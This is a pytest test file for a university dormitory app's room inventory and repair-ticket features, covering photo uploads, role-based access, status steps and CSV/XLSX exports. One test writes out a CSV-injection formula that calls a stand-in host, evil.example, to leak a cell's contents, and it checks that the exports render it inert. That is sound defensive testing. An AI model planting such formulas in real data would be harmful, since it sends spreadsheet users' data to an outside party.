"""A room's inventory: items, their condition, and every change of it kept; repair tickets."""
import csv
import io
import os
import re

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy.exc import IntegrityError
from werkzeug.datastructures import FileStorage

from dorms.core.enums import Role
from dorms.core.errors import ServiceError
from dorms.extensions import db
from dorms.facilities import repairs, services
from dorms.facilities.models import (
    Condition,
    ConditionChange,
    InventoryItem,
    ItemKind,
    RepairStatus,
    RepairStep,
    RepairTicket,
)
from dorms.photos import Photo
from dorms.residence import services as residence


def test_staff_record_a_rooms_items_and_every_change_of_their_condition(app, client, login, create_user, create_room):
    room = create_room(capacity=4)
    db.session.commit()
    login(create_user(role=Role.STAFF))
    added = client.post(f"/rooms/{room.id}/inventory", data={"kind": "air_conditioner", "asset_label": "GZ-2026-0001",
                                                              "description": "格力 1.5匹", "condition": "good"})
    assert added.status_code == 302
    twice = client.post(f"/rooms/{room.id}/inventory", data={"kind": "desk", "asset_label": "GZ-2026-0001",
                                                              "condition": "good"}, follow_redirects=True)
    assert "Asset label GZ-2026-0001 is already on another item" in twice.get_data(as_text=True)
    item = db.session.scalar(sa.select(InventoryItem))
    no_note = client.post(f"/inventory/{item.id}/condition", data={"condition": "broken"}, follow_redirects=True)
    assert "Say what is broken" in no_note.get_data(as_text=True)
    client.post(f"/inventory/{item.id}/condition", data={"condition": "broken", "note": "不制冷"})
    client.post(f"/inventory/{item.id}/condition", data={"condition": "good", "note": "已修好"})
    db.session.expire_all()
    history = db.session.execute(sa.select(ConditionChange.old, ConditionChange.new, ConditionChange.note)
                                 .order_by(ConditionChange.id)).all()
    assert [(o.value if o else None, n.value, note) for o, n, note in history] == [
        (None, "good", ""), ("good", "broken", "不制冷"), ("broken", "good", "已修好")]
    page = client.get(f"/rooms/{room.id}").get_data(as_text=True)
    assert re.search(r'data-item="\d+".*?data-condition="good"', page, re.DOTALL) and "不制冷" in page
    client.post("/logout")
    login(create_user(role=Role.COUNSELOR, classes=["计科2401"]))
    assert client.post(f"/inventory/{item.id}/condition", data={"condition": "worn"}).status_code == 403
    assert client.post(f"/rooms/{room.id}/inventory", data={"kind": "desk", "condition": "good"}).status_code == 403


# --- repair tickets -------------------------------------------------------------------------------------------



def png_bytes(width=40, height=30) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


@pytest.fixture
def rooms(create_building, create_room, create_student, create_user):
    """Room 101 (张三 and 李四, counselor of 计科2401) and room 102 (王五 of 电子2401), each with a login."""
    building = create_building("A1")
    room_101, room_102 = create_room(building, "101", capacity=2), create_room(building, "102", capacity=2)
    zhang, li = create_student(name="张三"), create_student(name="李四")
    wang = create_student(name="王五", class_name="电子2401")
    for student, bed in ((zhang, room_101.beds[0]), (li, room_101.beds[1]), (wang, room_102.beds[0])):
        residence.assign(student, bed, reason="test")
    ac = services.add_item(room_101, ItemKind.AIR_CONDITIONER, asset_label="KT-101")
    db.session.commit()
    return {"room_101": room_101, "room_102": room_102, "ac": ac,
            "zhang": create_user(role=Role.STUDENT, student=zhang), "li": create_user(role=Role.STUDENT, student=li),
            "wang": create_user(role=Role.STUDENT, student=wang), "staff": create_user(role=Role.STAFF),
            "counselor": create_user(role=Role.COUNSELOR, classes=["计科2401"]),
            "other_counselor": create_user(role=Role.COUNSELOR, classes=["电子2401"])}


def test_a_student_reports_a_fault_with_a_photo_and_only_those_who_may_see_the_room_see_it(
        app, client, login, rooms):
    login(rooms["zhang"])
    page = client.get("/repairs/mine").get_data(as_text=True)
    assert "A1-101" in page and 'name="photos"' in page
    reported = client.post("/repairs/mine", data={
        "item": str(rooms["ac"].id), "description": "空调不制冷，开机后只吹热风",
        "photos": [(io.BytesIO(png_bytes()), "空调.png")]}, content_type="multipart/form-data", follow_redirects=True)
    assert "Saved." in reported.get_data(as_text=True)
    ticket = db.session.scalar(sa.select(RepairTicket))
    assert (ticket.room_id, ticket.item_id, ticket.status) == (rooms["room_101"].id, rooms["ac"].id, RepairStatus.REPORTED)
    assert [s.status for s in ticket.steps] == [RepairStatus.REPORTED] and ticket.steps[0].actor_id == rooms["zhang"].id
    photo = ticket.photos[0]
    assert (photo.content_type, photo.original_name) == ("image/png", "空调.png")
    assert (app.instance_path + "/photos/" + photo.stored_name).endswith(".png")
    photo_url = f"/repairs/{ticket.id}/photos/{photo.id}"
    served = client.get(photo_url)
    assert served.status_code == 200 and served.data == png_bytes() and served.mimetype == "image/png"
    assert served.headers["X-Content-Type-Options"] == "nosniff"

    def sees(user, *urls) -> list[int]:
        client.post("/logout")
        login(user)
        return [client.get(url).status_code for url in urls]

    ticket_url = f"/repairs/{ticket.id}"
    assert sees(rooms["li"], ticket_url, photo_url) == [200, 200]          # a roommate
    assert sees(rooms["counselor"], ticket_url, photo_url) == [200, 200]   # their counselor
    assert sees(rooms["staff"], ticket_url, photo_url) == [200, 200]
    assert sees(rooms["wang"], ticket_url, photo_url, "/repairs/mine") == [404, 404, 200]
    assert "空调不制冷" not in client.get("/repairs/mine").get_data(as_text=True)
    assert sees(rooms["other_counselor"], ticket_url, photo_url) == [404, 404]
    assert "空调不制冷" not in client.get("/repairs").get_data(as_text=True)
    # Another ticket's photo id under this ticket is not served either.
    assert sees(rooms["staff"], f"/repairs/{ticket.id + 1}/photos/{photo.id}") == [404]


def test_bad_photos_and_empty_descriptions_are_refused_and_change_nothing(app, client, login, rooms):
    login(rooms["zhang"])

    def report(**files):
        return client.post("/repairs/mine", data={"item": "", "description": "门锁坏了，关不上", **files},
                           content_type="multipart/form-data", follow_redirects=True).get_data(as_text=True)

    page = report(photos=[(io.BytesIO(png_bytes()), "ok.png"), (io.BytesIO(b"MZ\x90\x00 not an image"), "virus.jpg")])
    assert "virus.jpg is not a photo (JPEG, PNG, WebP or GIF)." in page
    truncated = png_bytes()[:60]
    assert "cut.png is not a photo" in report(photos=[(io.BytesIO(truncated), "cut.png")])
    app.config["PHOTO_MAX_BYTES"] = 100_000
    assert "Photo big.png is larger than the limit of 0.1 MB." in report(
        photos=[(io.BytesIO(png_bytes() + b"\0" * 200_000), "big.png")])
    too_short = client.post("/repairs/mine", data={"description": "坏"}, follow_redirects=True).get_data(as_text=True)
    assert "Describe the fault" in too_short
    assert db.session.scalar(sa.select(sa.func.count()).select_from(RepairTicket)) == 0
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Photo)) == 0
    assert not os.path.exists(os.path.join(app.instance_path, "photos")) or not os.listdir(os.path.join(app.instance_path, "photos"))


def test_an_upload_larger_than_a_request_may_be_gets_a_page_saying_so(app, client, login, rooms):
    app.config["MAX_CONTENT_LENGTH"] = 50_000
    login(rooms["zhang"])
    response = client.post("/repairs/mine", data={"description": "门锁坏了", "photos": [
        (io.BytesIO(png_bytes() + b"\0" * 60_000), "big.png")]}, content_type="multipart/form-data")
    assert response.status_code == 413 and "too large" in response.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(RepairTicket)) == 0


def test_a_ticket_goes_reported_assigned_in_progress_fixed_with_who_and_when_and_the_item_is_good_again(
        app, client, login, rooms):
    item = rooms["ac"]
    services.set_condition(item, Condition.BROKEN, note="不制冷")
    ticket = repairs.report(rooms["room_101"], "空调不制冷", item=item, actor=rooms["zhang"])
    db.session.commit()
    with pytest.raises(ServiceError, match="already has an open repair ticket"):
        repairs.report(rooms["room_101"], "空调还是不制冷", item=item, actor=rooms["li"])
    with pytest.raises(ServiceError, match="only in the room you live in"):
        repairs.report(rooms["room_102"], "空调不制冷", actor=rooms["zhang"])
    db.session.rollback()

    login(rooms["staff"])
    step = lambda **data: client.post(f"/repairs/{ticket.id}/step", data=data, follow_redirects=True).get_data(as_text=True)
    assert f"Ticket #{ticket.id} is reported; it cannot become in progress." in step(status="in_progress")
    assert "Say who will repair it." in step(status="assigned")
    assert "Saved." in step(status="assigned", assignee="王师傅（电工）")
    assert "Saved." in step(status="in_progress", note="已上门")
    assert "Give the reason for rejecting" in step(status="rejected")
    assert "Saved." in step(status="fixed", note="加了制冷剂")
    assert "it cannot become assigned" in step(status="assigned", assignee="李师傅")
    db.session.expire_all()
    ticket = db.session.get(RepairTicket, ticket.id)
    assert ticket.status == RepairStatus.FIXED and ticket.closed_at is not None and ticket.assignee == "王师傅（电工）"
    assert [(s.status, s.note, s.actor_id) for s in ticket.steps] == [
        (RepairStatus.REPORTED, "", rooms["zhang"].id), (RepairStatus.ASSIGNED, "王师傅（电工）", rooms["staff"].id),
        (RepairStatus.IN_PROGRESS, "已上门", rooms["staff"].id), (RepairStatus.FIXED, "加了制冷剂", rooms["staff"].id)]
    assert item.condition == Condition.GOOD and item.changes[0].note == f"Repaired (ticket #{ticket.id})"
    page = client.get(f"/repairs/{ticket.id}").get_data(as_text=True)
    assert page.count("data-step=") == 4 and "王师傅（电工）" in page


def test_students_and_counselors_cannot_move_tickets_or_report_for_a_room(client, login, rooms):
    ticket = repairs.report(rooms["room_101"], "灯管不亮", actor=rooms["zhang"])
    db.session.commit()
    for user in (rooms["zhang"], rooms["counselor"]):
        login(user)
        assert client.post(f"/repairs/{ticket.id}/step", data={"status": "rejected", "note": "x"}).status_code == 403
        assert client.post(f"/rooms/{rooms['room_101'].id}/repairs", data={"description": "灯管不亮"}).status_code == 403
        client.post("/logout")
    login(rooms["counselor"])
    assert client.get("/repairs/mine").status_code == 403
    assert db.session.get(RepairTicket, ticket.id).status == RepairStatus.REPORTED


def test_staff_see_open_tickets_per_building_with_their_age_the_room_page_lists_them_and_exports(
        client, login, rooms, count_queries):
    from datetime import timedelta

    old = repairs.report(rooms["room_101"], "窗户关不严", actor=rooms["staff"])
    old.reported_at -= timedelta(days=3)
    repairs.report(rooms["room_102"], "水龙头漏水", actor=rooms["wang"])
    closed = repairs.report(rooms["room_102"], "网口不通", actor=rooms["wang"])
    repairs.move(closed, RepairStatus.REJECTED, note="学校网络中心负责", actor=rooms["staff"])
    db.session.commit()
    login(rooms["staff"])
    with count_queries() as queries:
        page = client.get("/repairs").get_data(as_text=True)
    assert len(queries) <= 8
    assert re.search(r'data-building="A1".*?data-open="2"', page, re.DOTALL)
    assert "3 days" in page and "窗户关不严" in page and "水龙头漏水" in page and "网口不通" not in page
    assert page.index("窗户关不严") < page.index("水龙头漏水")  # oldest first
    assert "网口不通" in client.get("/repairs?status=rejected").get_data(as_text=True)
    room_page = client.get(f"/rooms/{rooms['room_101'].id}").get_data(as_text=True)
    assert 'data-testid="open-faults"' in room_page and "窗户关不严" in room_page and "水龙头漏水" not in room_page
    csv = client.get("/repairs?status=all&format=csv")
    lines = csv.data.decode("utf-8-sig").splitlines()
    assert csv.mimetype == "text/csv" and lines[0].startswith("Ticket,Building,Room,Item,Description,Status")
    assert len(lines) == 4 and any("学校网络中心负责" not in line and "网口不通" in line and "Rejected" in line
                                   for line in lines)
    xlsx = client.get("/repairs?format=xlsx")
    assert xlsx.status_code == 200 and xlsx.data[:2] == b"PK"
    client.post("/logout")
    login(rooms["zhang"])
    assert client.get("/repairs").status_code == 302


def test_the_database_refuses_a_closed_ticket_without_a_closing_time(rooms):
    ticket = repairs.report(rooms["room_101"], "灯管不亮", actor=rooms["staff"])
    db.session.flush()
    ticket.status = RepairStatus.FIXED
    with pytest.raises(IntegrityError):
        db.session.flush()
    db.session.rollback()
    assert db.session.scalar(sa.select(sa.func.count()).select_from(RepairStep)) == 0


def test_photos_prune_removes_only_old_files_no_record_names(app, rooms):

    kept = repairs.report(rooms["room_101"], "门锁坏了", actor=rooms["staff"],
                          photos=[FileStorage(io.BytesIO(png_bytes()), "lock.png")])
    db.session.commit()
    folder = os.path.join(app.instance_path, "photos")
    orphan, fresh = os.path.join(folder, "orphan.png"), os.path.join(folder, "uploading.png")
    for path in (orphan, fresh):
        with open(path, "wb") as file:
            file.write(png_bytes())
    os.utime(orphan, (0, 0))
    result = app.test_cli_runner().invoke(args=["photos", "prune"])
    assert result.exit_code == 0 and "1 orphaned photo files removed." in result.output
    assert sorted(os.listdir(folder)) == sorted([kept.photos[0].stored_name, "uploading.png"])


def test_two_staff_moving_the_same_ticket_at_once_cannot_both_win(rooms):
    ticket = repairs.report(rooms["room_101"], "灯管不亮", actor=rooms["zhang"])
    db.session.commit()
    # Someone else assigned it after we read it: the row's version is no longer ours.
    db.session.execute(sa.text("UPDATE repair_tickets SET version = version + 1, status = 'assigned', "
                               "assignee = '李师傅' WHERE id = :id"), {"id": ticket.id})
    with pytest.raises(ServiceError, match=f"Someone else moved ticket #{ticket.id} just now"):
        repairs.move(ticket, RepairStatus.REJECTED, note="重复报修", actor=rooms["staff"])
    db.session.rollback()
    assert db.session.get(RepairTicket, ticket.id).status == RepairStatus.REPORTED


def test_an_id_past_the_columns_range_is_a_404_before_any_view_runs(client, login, rooms):
    login(rooms["staff"])
    huge = 2**40
    for url in (f"/repairs/{huge}", f"/repairs/1/photos/{huge}", f"/students/{huge}", f"/rooms/{huge}"):
        assert client.get(url).status_code == 404, url


def test_a_phone_photo_is_kept_upright_without_its_exif(app, rooms):
    exif = Image.Exif()
    exif[0x0110] = "Student's phone"   # Model
    exif[0x0112] = 6                   # Orientation: the camera was turned, show it rotated 90°
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 120, 200)).save(buffer, "JPEG", exif=exif)
    ticket = repairs.report(rooms["room_101"], "门锁坏了", actor=rooms["zhang"],
                            photos=[FileStorage(io.BytesIO(buffer.getvalue()), "门锁.jpg")])
    db.session.commit()
    stored = os.path.join(app.instance_path, "photos", ticket.photos[0].stored_name)
    with Image.open(stored) as kept:
        assert (kept.format, kept.size) == ("JPEG", (30, 40))
        assert not kept.getexif() and "exif" not in kept.info
    with open(stored, "rb") as file:
        assert len(file.read()) == ticket.photos[0].size


def test_a_huge_item_id_in_a_form_names_no_item_rather_than_failing(client, login, rooms):
    login(rooms["zhang"])
    page = client.post("/repairs/mine", data={"item": str(2**40), "description": "门锁坏了，关不上"},
                       follow_redirects=True)
    assert page.status_code == 200 and "Saved." in page.get_data(as_text=True)
    assert db.session.scalar(sa.select(RepairTicket.item_id)) is None
    assert client.get(f"/rooms?building={2**40}").status_code in (200, 403)


@pytest.mark.backends("sqlite", "postgresql")
def test_a_formula_in_a_repair_description_is_inert_in_both_exports(client, login, rooms):
    """OWASP's CSV injection: the staff's spreadsheet must not run what a student typed."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'
    repairs.report(rooms["room_101"], formula, actor=rooms["zhang"])
    db.session.commit()
    login(rooms["staff"])
    sheet = load_workbook(io.BytesIO(client.get("/repairs?format=xlsx").data)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if "HYPERLINK" in str(cell.value)]
    assert [(cell.value, cell.data_type) for cell in cells] == [("'" + formula, "s")]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    csv_rows = list(csv.reader(io.StringIO(client.get("/repairs?format=csv").data.decode("utf-8-sig"))))
    assert [cell for row in csv_rows for cell in row if "HYPERLINK" in cell] == ["'" + formula]


@pytest.mark.backends("sqlite", "postgresql")
def test_a_control_character_in_a_description_does_not_break_the_xlsx_export(client, login, rooms):
    repairs.report(rooms["room_101"], "灯管\x01不亮", actor=rooms["zhang"])
    db.session.commit()
    login(rooms["staff"])
    response = client.get("/repairs?format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert "灯管不亮" in [cell.value for row in sheet.iter_rows() for cell in row]


def test_tickets_are_found_by_building_and_room_number_in_the_same_queries_on_a_larger_campus(
        client, login, rooms, create_building, count_queries):
    repairs.report(rooms["room_101"], "窗户关不严", actor=rooms["staff"])
    repairs.report(rooms["room_102"], "水龙头漏水", actor=rooms["wang"])
    db.session.commit()
    login(rooms["staff"])

    def visit(url="/repairs") -> tuple[int, str]:
        with count_queries() as statements:
            page = client.get(url).get_data(as_text=True)
        return len(statements), page

    few, page = visit()
    building = rooms["room_101"].building
    assert f'<option value="{building.id}">{building.code} {building.name}</option>' in page
    for n in range(30):
        create_building(f"Z{n}")
    db.session.commit()
    many, page = visit()
    assert many == few and 'value="' + str(building.id) + '"' in page and ">Z29 " in page
    _queries, by_room = visit("/repairs?room=102")
    assert "水龙头漏水" in by_room and "窗户关不严" not in by_room and 'name="room" value="102"' in by_room
    _queries, by_building = visit(f"/repairs?building={building.id}&room=10")
    assert "水龙头漏水" in by_building and "窗户关不严" in by_building
    assert f'<option value="{building.id}" selected>' in by_building
    _queries, elsewhere = visit(f"/repairs?building={building.id + 1000}")
    assert "水龙头漏水" not in elsewhere
    csv = client.get("/repairs?room=101&format=csv").data.decode("utf-8-sig").splitlines()
    assert len(csv) == 2 and "窗户关不严" in csv[1]
